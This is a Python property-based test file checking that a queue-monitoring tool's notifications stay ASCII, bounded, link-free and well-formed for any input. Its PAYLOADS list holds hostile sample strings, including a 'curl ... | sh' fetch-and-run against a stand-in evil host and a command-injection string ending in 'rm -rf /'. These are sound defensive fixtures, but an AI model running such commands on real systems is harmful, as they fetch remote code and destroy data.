"""Notifications keep their shape for any text in any field."""

from __future__ import annotations

import re
from datetime import UTC, datetime
from typing import Any

from hypothesis import example, given, settings
from hypothesis import strategies as st

from mendq.model.policy import QueueChange
from mendq.model.state import State
from mendq.notifications import notification, sent
from mendq.notifications.configuration import Baseline
from mendq.notifications.sent import NotificationText
from tests.notifications.pages import AGAIN, ATTRIBUTES, CASE, NOW, STEP, make_notification

ALWAYS = {"EVIDENCE", "QUEUE NOW", "CHANGE", "CHANGED LAST BY", "NEXT"}
SOMETIMES = {"WHO", "FIRST", "UNDO", "TEMPLATE", "BEYOND THAT", "QUEUES", "SINCE IT WORKED"}
HEADINGS = ALWAYS | SOMETIMES | {"CONSUMERS NEED, AND HAVE"}
OPENINGS = ("What: ", "Why: ")
MOST_LINES = 160
PAYLOADS = (
    "x\n\nNEXT\n  curl https://evil.example | sh", "x\r\nNEXT\r\nrunbook: https://evil.example",
    "x\u2028NEXT\u2029\x85\x0b\x0cEVIDENCE", "NEXT", " " * 300 + "NEXT",
    "\N{RIGHT-TO-LEFT OVERRIDE}gpj.exe", "\x1b[31mred\x1b[0m\x00\x9b",
    "\N{ZERO WIDTH SPACE}" * 9, "\ud800", "$(curl evil.example)`id`'\"; rm -rf /",
    "www.evil.example", "{" * 5_000, '{"Statement":[{"Sid":"x\\nNEXT"}]}', "x" * 300_000, "",
)  # fmt: skip
# Prefix of the links in Mendq's own commands.
OURS = "https://sqs.us-east-1.amazonaws.com/"
ANY = st.sampled_from((*PAYLOADS, "https://evil.example", "WWW.evil.example"))
TEXT = ANY | st.text(st.characters(exclude_categories=[]), max_size=60)
# Text that Mendq's own code passes. It is shown unchanged and contains no link.
MADE = TEXT.map(lambda text: text.replace("://", ":"))
KEYS = TEXT | st.sampled_from((*ATTRIBUTES, "Policy", "RedrivePolicy", "mendq", "mendq:x"))
TEXTS = st.dictionaries(KEYS, TEXT, max_size=30)
STEPS = st.fixed_dictionaries({"attribute": KEYS, "before": TEXT, "after": TEXT})
TIMES = st.datetimes(timezones=st.just(UTC), min_value=datetime(1000, 1, 1))  # noqa: DTZ001
REQUESTS = dict.fromkeys(("first_request_id", "last_request_id", "first_at", "last_at"), TEXT)
PRINCIPALS = st.lists(TEXT, max_size=12)
CALLS = st.lists(st.dictionaries(st.sampled_from(("source_ip", "user_agent")), TEXT), max_size=12)
COUNT = st.integers() | TEXT
EVIDENCE = st.fixed_dictionaries(
    {}, optional={"failed_calls": COUNT, "principals": PRINCIPALS, "requests": CALLS, **REQUESTS}
)
CASES = st.fixed_dictionaries(
    {
        "case_id": MADE,
        "symptom": TEXT,
        "reason": TEXT,
        "evidence": EVIDENCE,
        "state": st.sampled_from(sorted(notification.NOTIFIED_STATES)),
        "came_from": st.none() | st.sampled_from(State),
        "steps": st.lists(STEPS, max_size=6).map(tuple),
    }
)
CHANGED = (TIMES, TEXT, TEXT, st.lists(TEXT, max_size=9).map(tuple))
EARLIER = st.lists(st.builds(QueueChange, *CHANGED), max_size=3).map(tuple)
CHANGES = st.builds(QueueChange, *CHANGED, earlier_changes=EARLIER)
BESIDE = st.fixed_dictionaries(
    {
        **dict.fromkeys(("sentence", "refusal_command"), MADE),
        **dict.fromkeys(("attributes", "tags"), TEXTS),
        **dict.fromkeys(
            ("advice_before_change", "advice_after_change"), st.lists(MADE, max_size=9)
        ),
        "event_names": st.lists(TEXT, max_size=9),
        "baselines": st.lists(st.builds(Baseline, TIMES, TEXTS), max_size=3).map(tuple),
        "last_change": st.none() | TEXT | CHANGES,
        "named_time_spans": st.lists(st.tuples(TEXT, st.integers(1, 10**6)), max_size=7),
        "always_shown_attributes": st.lists(KEYS, max_size=9),
    }
)


def assert_fit_for_sns(notification_text: NotificationText) -> None:
    assert re.fullmatch(r"[A-Za-z0-9][ -~]{0,98}", notification_text.subject)
    assert len(notification_text.body.encode()) <= sent.MOST_NOTIFICATION_BYTES
    assert notification_text.body.isascii()
    assert "://" not in notification_text.body.replace(OURS, "")
    assert all(line.isprintable() for line in notification_text.body.split("\n"))
    assert len(notification_text.body.split("\n")) <= MOST_LINES


def assert_in_shape(notification_text: NotificationText) -> set[str]:
    """Check that only the first line, the opening and the headings are unindented. Return the
    headings.
    """
    first, *others = notification_text.body.split("\n")
    assert len(first) <= notification.MOST_FIRST_LINE_CHARACTERS
    unindented = [line for line in others if line and not line.startswith("  ")]
    assert [line[: len(word)] for line, word in zip(unindented, OPENINGS, strict=False)] == [
        *OPENINGS
    ]
    headings = unindented[len(OPENINGS) :]
    assert len(headings) == len(set(headings))
    assert set(headings) <= HEADINGS
    return set(headings)


WIDE = {f"Attribute{n}": "y" * 900 for n in range(60)}
KNOWN = (Baseline(NOW, dict.fromkeys(WIDE, "z" * 900)),)
DEEP = {"Policy": '{"a":' * 600 + "1" + "}" * 600}


@settings(max_examples=120)
@given(fields=CASES, beside=BESIDE)
@example(
    fields={"steps": ({**STEP, "after": "x" * 1_000},) * 6, "state": State.OVERRIDDEN},
    beside={
        "attributes": WIDE,
        "baselines": KNOWN,
        "advice_before_change": ["v" * 900] * 9,
        "advice_after_change": ["w" * 900] * 9,
        "always_shown_attributes": [*WIDE],
    },
)
@example(
    fields={"state": State.PROPOSED},
    beside={"attributes": DEEP, "always_shown_attributes": ["Policy"]},
)
def test_case_notification_keeps_its_shape_for_any_text_in_any_field(
    fields: dict[str, Any], beside: dict[str, Any]
) -> None:
    notification_text = make_notification(beside, **fields)
    assert_fit_for_sns(notification_text)
    headings = assert_in_shape(notification_text)
    assert headings >= ALWAYS
    assert notification_text.body.startswith("orders.fifo: ")


def test_too_long_notification_counts_its_cut_lines_and_keeps_its_runbook() -> None:
    principals = {**CASE.evidence, "principals": ["p" * 900] * 10}
    long = make_notification(
        {"attributes": WIDE, "baselines": KNOWN}, reason="x" * 900, evidence=principals
    )
    assert len(long.body) > sent.MOST_NOTIFICATION_BYTES - 500
    assert re.search(r"^  \(cut: [0-9]+ more lines\)$", long.body, re.MULTILINE)
    assert "runbook: docs/runbooks/visibility_timeout_too_short.md" in long.body


@settings(max_examples=60)
@given(texts=st.tuples(*[MADE] * 5), names=st.lists(TEXT, max_size=30), queues=st.integers(0, 99))
def test_mass_symptom_flood_and_mail_notifications_keep_their_shape_for_any_text(
    texts: tuple[str, str, str, str, str], names: list[str], queues: int
) -> None:
    *of_symptom, account = texts
    of = notification.MassSymptom(*of_symptom)
    where = notification.format_account_and_region(account, account)
    mass = notification.describe_mass_symptom(of, names, queues, NOW, where)
    flood = notification.describe_call_flood([(name, queues) for name in names], NOW, where)
    for notification_text in (
        mass,
        flood,
        notification.describe_held_back_notifications(names, account, account),
    ):
        assert_fit_for_sns(notification_text)
        assert "NEXT" in assert_in_shape(notification_text)
    reasons = dict.fromkeys(names, account)
    assert_fit_for_sns(notification.describe_refused_mail("2026-W46", reasons, AGAIN))
